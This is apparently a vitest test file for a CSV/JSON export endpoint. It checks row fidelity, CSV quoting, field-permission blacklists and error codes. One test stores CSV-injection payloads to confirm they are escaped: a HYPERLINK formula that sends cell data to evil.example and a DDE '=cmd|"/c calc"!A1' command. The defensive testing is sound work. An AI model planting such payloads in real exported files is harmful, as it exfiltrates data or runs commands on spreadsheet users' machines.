import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dbTargets } from '../support/databases';
import { createRoleWithUser, refreshSchema } from '../support/fixtures';
import { startBlog, type BlogEnv } from '../items/setup';
import { parseCsv } from './csv-parse';

/**
 * `GET /items/{c}?export=csv|json` (docs/compatibility.md, Atrium extensions): the download holds
 * exactly the rows and fields the same list read returns, through the same permissions.
 */

const targets = await dbTargets();

const VIEW =
  'fields=id,title,views,author.name&filter[views][gte]=20&filter[status][neq]=draft&sort=-views,title';

/** A CSV cell as the JSON API value would print. */
const cell = (v: unknown) => (v === null || v === undefined ? '' : String(v));

describe.each(targets)('export on $name', (target) => {
  let env: BlogEnv;
  let reader: string;

  beforeAll(async () => {
    env = await startBlog(target, 'exp', 60);
    // Values that need CSV quoting.
    await env
      .knex('articles')
      .where('id', 4)
      .update({ title: 'Comma, "quote"\nand line', views: 99, author: 2, status: 'published' });
    await env.knex('authors').where('id', 2).update({ name: 'Smith, "Jr."' });
    const role = await createRoleWithUser(env.knex, 'Readers', [
      { collection: 'articles', read: 'full', read_field_blacklist: 'views' },
      { collection: 'authors', read: 'full' },
    ]);
    reader = role.token;
    await refreshSchema(env.server, env.key);
  });
  afterAll(() => env?.close());

  async function apiRows(query: string, token?: string | null) {
    const r = await env.call(`/items/articles?${query}&limit=-1`, { token });
    expect(r.status).toBe(200);
    return r.body.data as Record<string, unknown>[];
  }

  it('CSV holds the API rows of a filtered, sorted view, flattened with dotted headers', async () => {
    const rows = await apiRows(VIEW);
    expect(rows.length).toBeGreaterThan(10);
    const r = await env.call(`/items/articles?${VIEW}&export=csv`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(r.headers.get('content-disposition')).toMatch(
      /^attachment; filename="articles-\d{4}-\d\d-\d\d\.csv"/,
    );
    const text = r.body as string;
    expect(text.endsWith('\r\n')).toBe(true);
    const [header, ...lines] = parseCsv(text);
    expect(header).toEqual(['id', 'title', 'views', 'author.name']);
    expect(lines).toEqual(
      rows.map((a) => [
        cell(a.id),
        cell(a.title),
        cell(a.views),
        cell((a.author as { name?: string } | null)?.name),
      ]),
    );
    // The quoted values came back whole.
    expect(lines.some((l) => l[1] === 'Comma, "quote"\nand line')).toBe(true);
    expect(text).toContain('"Comma, ""quote""\nand line"');
    expect(text).toContain(',"Smith, ""Jr."""\r\n');
  });

  it('JSON holds the API rows as they are nested, honouring q and status', async () => {
    const view = 'fields=id,title,author.*&q=a&status=*&sort=title';
    const rows = await apiRows(view);
    const r = await env.call(`/items/articles?${view}&export=json`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toMatch(/^application\/json/);
    expect(r.headers.get('content-disposition')).toMatch(/filename="articles-[\d-]+\.json"/);
    expect(r.body).toEqual(rows);
  });

  it('exports every matching row, past the default limit and without paging parameters', async () => {
    const all = await apiRows('fields=id&status=*');
    const r = await env.call('/items/articles?fields=id&status=*&limit=5&offset=3&export=json');
    expect((r.body as unknown[]).length).toBe(all.length);
  });

  it('an empty view is a header-only CSV and an empty JSON array', async () => {
    const csv = await env.call('/items/articles?fields=id,title&filter[id][eq]=-1&export=csv');
    expect(csv.body).toBe('id,title\r\n');
    const json = await env.call('/items/articles?fields=id,title&filter[id][eq]=-1&export=json');
    expect(json.body).toEqual([]);
  });

  it('a role with a read blacklist never sees the blacklisted field', async () => {
    const csv = await env.call('/items/articles?export=csv', { token: reader });
    expect(csv.status).toBe(200);
    const [header] = parseCsv(csv.body as string);
    expect(header).toContain('title');
    expect(header).not.toContain('views');
    const star = await env.call('/items/articles?fields=*,author.*&export=json', { token: reader });
    expect(star.status).toBe(200);
    for (const row of star.body as Record<string, unknown>[]) expect(row).not.toHaveProperty('views');
    // Naming it is refused as in a list read.
    const named = await env.call('/items/articles?fields=id,views&export=csv', { token: reader });
    expect(named.status).toBe(403);
    expect(named.body.error.code).toBe(304);
  });

  it('the public gets the same refusal as for the list', async () => {
    const r = await env.call('/items/articles?export=csv', { token: null });
    const list = await env.call('/items/articles', { token: null });
    expect(r.status).toBe(list.status);
    expect(r.body.error.code).toBe(list.body.error.code);
  });

  it('CSV neutralises text that a spreadsheet would run as a formula, numbers stay numbers', async () => {
    // Issue 24, item 6 (OWASP CSV injection): =, +, -, @, tab and CR at the start of a text cell.
    const formulas: [number, string][] = [
      [51, '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
      [52, '+1+2'],
      [53, '-2+3'],
      [54, '@SUM(A1:A2)'],
      [55, '\tTabbed'],
      [56, '\r=1'],
      [57, 'Plain - with a dash inside'],
    ];
    for (const [id, title] of formulas)
      await env.knex('articles').where('id', id).update({ title, views: -id, status: 'published' });
    await env.knex('authors').where('id', 3).update({ name: '=cmd|"/c calc"!A1' });
    await env.knex('articles').where('id', 51).update({ author: 3 });
    const view = 'fields=id,title,views,author.name&filter[id][between]=51,57&sort=id';
    const r = await env.call(`/items/articles?${view}&export=csv`);
    expect(r.status).toBe(200);
    const [, ...lines] = parseCsv(r.body as string);
    expect(lines.map((l) => l[1])).toEqual([
      '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "'+1+2",
      "'-2+3",
      "'@SUM(A1:A2)",
      "'\tTabbed",
      "'\r=1",
      'Plain - with a dash inside',
    ]);
    // Negative numbers of a numeric column are written as numbers.
    expect(lines.map((l) => l[2])).toEqual(['-51', '-52', '-53', '-54', '-55', '-56', '-57']);
    expect(lines[0]![3]).toBe('\'=cmd|"/c calc"!A1');
    // The JSON export and the API keep the values as stored.
    const json = await env.call(`/items/articles?${view}&export=json`);
    expect((json.body as { title: string }[])[0]!.title).toBe(formulas[0]![1]);
  });

  it('bad parameters give coded JSON errors before any download starts', async () => {
    const fmt = await env.call('/items/articles?export=xlsx');
    expect(fmt.status).toBe(400);
    expect(fmt.body.error.code).toBe(2);
    const field = await env.call('/items/articles?fields=nope&export=csv');
    expect(field.status).toBe(422);
    expect(field.body.error.code).toBe(202);
    const op = await env.call('/items/articles?filter[title][bogus]=1&export=json');
    expect(op.status).toBe(422);
    expect(op.body.error.code).toBe(214);
    const random = await env.call('/items/articles?sort=?&export=csv');
    expect(random.status).toBe(400);
    const system = await env.call('/items/directus_users?export=csv');
    expect(system.status).toBe(401);
    expect(system.body.error.code).toBe(201);
  });
});
